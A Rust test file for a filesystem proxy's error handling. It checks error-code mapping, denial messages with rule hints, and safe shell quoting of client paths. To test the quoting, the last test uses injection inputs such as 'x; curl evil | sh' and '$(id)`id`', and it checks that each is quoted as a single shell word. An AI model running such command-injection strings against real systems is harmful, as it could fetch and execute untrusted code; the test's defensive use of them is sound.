use jig_proto::ProjectPath;
use jig_proto::fsproxy::ProxyErrorCode;
use jig_proto::vfs::{ErrorKind, ErrorReply, Method};

use super::{refusal, refused_open};
use crate::fsproxy::{Advice, ClientPaths, ManagerOptions};

#[test]
fn f024_every_refusal_of_the_broker_has_a_code() {
    let check =
        |reply: ErrorReply, code: ProxyErrorCode| assert_eq!(refusal(&reply).code, code, "{reply}");
    check(ErrorReply::not_found("a"), ProxyErrorCode::NoEnt);
    check(ErrorReply::is_dir("a"), ProxyErrorCode::Arg);
    check(ErrorReply::not_dir("a"), ProxyErrorCode::Arg);
    check(
        ErrorReply::invalid_params(Method::FsRead, "no"),
        ProxyErrorCode::Arg,
    );
    check(ErrorReply::too_large("`a`", 2, 1), ProxyErrorCode::Range);
    check(
        ErrorReply::denied_by_rule("no", "rule"),
        ProxyErrorCode::Perm,
    );
    check(ErrorReply::uncovered("no"), ProxyErrorCode::Perm);
    check(ErrorReply::escape("a"), ProxyErrorCode::Perm);
    check(ErrorReply::protected("a"), ProxyErrorCode::Perm);
    check(ErrorReply::sensitive("a"), ProxyErrorCode::Perm);
    check(ErrorReply::stale("a"), ProxyErrorCode::Io);
    check(ErrorReply::internal("no"), ProxyErrorCode::Io);
    // Whatever is added later is a failure, and no claim about rights or paths.
    for kind in ErrorKind::ALL {
        let code = refusal(&ErrorReply::new(kind, "said")).code;
        assert_eq!(code == ProxyErrorCode::Perm, kind.is_denial(), "{kind}");
        assert_eq!(
            code == ProxyErrorCode::NoEnt,
            kind == ErrorKind::NotFound,
            "{kind}"
        );
    }
}

#[test]
fn a_denial_is_told_with_its_rule_and_the_way_out_in_one_line() {
    let denied = ErrorReply::denied_by_rule("read on `a`: no", "nothing on `a` (jig.toml:4)")
        .with_hint("[[tools.x.access.fs]]\npath = \"a\"\n\nread = true\n");
    assert_eq!(
        refusal(&denied).message,
        "access denied: read on `a`: no; rule: nothing on `a` (jig.toml:4); \
         to allow it, add: [[tools.x.access.fs]] path = \"a\" read = true"
    );
    // A hint of another request has no meaning here.
    let large = ErrorReply::too_large("`a`", 2, 1).with_hint("use `offset`");
    assert!(!refusal(&large).message.contains("offset"));
}

#[test]
fn an_open_is_refused_in_the_words_of_who_asked() {
    let options = ManagerOptions {
        names: ClientPaths::new("/", ProjectPath::root()),
        advice: Some(Advice {
            read: "-i".to_owned(),
            write: "-o".to_owned(),
        }),
        ..ManagerOptions::default()
    };
    let check = |reply: ErrorReply, expected: &str| {
        let refused = refused_open(reply, "../notes\u{1b}.txt", &options);
        assert_eq!(refused.message, expected);
    };
    let denied = |operation: &str| {
        let why = format!("{operation} on `tmp/notes.txt`: no");
        ErrorReply::denied_by_rule(why, "a rule")
            .with_wanted(operation, "tmp/notes.txt")
            .with_hint("[[tools.x.access.fs]]")
    };
    check(
        denied("read"),
        "access denied: read on `/tmp/notes.txt`: no; rule: a rule; to allow it, add: -i '../notes\\u{1b}.txt'",
    );
    check(
        denied("update"),
        "access denied: update on `/tmp/notes.txt`: no; rule: a rule; to allow it, add: -o '../notes\\u{1b}.txt'",
    );
    check(
        ErrorReply::not_found("tmp/notes.txt"),
        &ErrorReply::not_found("../notes\u{1b}.txt").message,
    );
    // Where there is no way out, none is told.
    let escape = refused_open(ErrorReply::escape("tmp/x"), "x", &options);
    assert!(!escape.message.contains("to allow it"), "{escape}");
}

/// The path is the client's, and the words are for the command line of whoever runs the proxy.
#[test]
fn the_way_out_is_one_word_of_a_shell() {
    let options = ManagerOptions {
        advice: Some(Advice {
            read: "-i".to_owned(),
            write: "-o".to_owned(),
        }),
        ..ManagerOptions::default()
    };
    let check = |path: &str, word: &str| {
        let denied = ErrorReply::denied_by_rule("read", "a rule")
            .with_wanted("read", "a")
            .with_hint("[[tools.x.access.fs]]");
        let message = refused_open(denied, path, &options).message;
        let told = message.split_once("add: -i ").unwrap().1;
        assert_eq!(told, word);
    };
    check("notes/a-b_c.txt", "notes/a-b_c.txt");
    check("two words", "'two words'");
    check("x; curl evil | sh", "'x; curl evil | sh'");
    check("$(id)`id`", "'$(id)`id`'");
    check("it's", r"'it'\''s'");
    check("-o", "./-o");
    check("-o /", "'./-o /'");
    check("~/x", "'~/x'");
    check("ä", "'ä'");
}
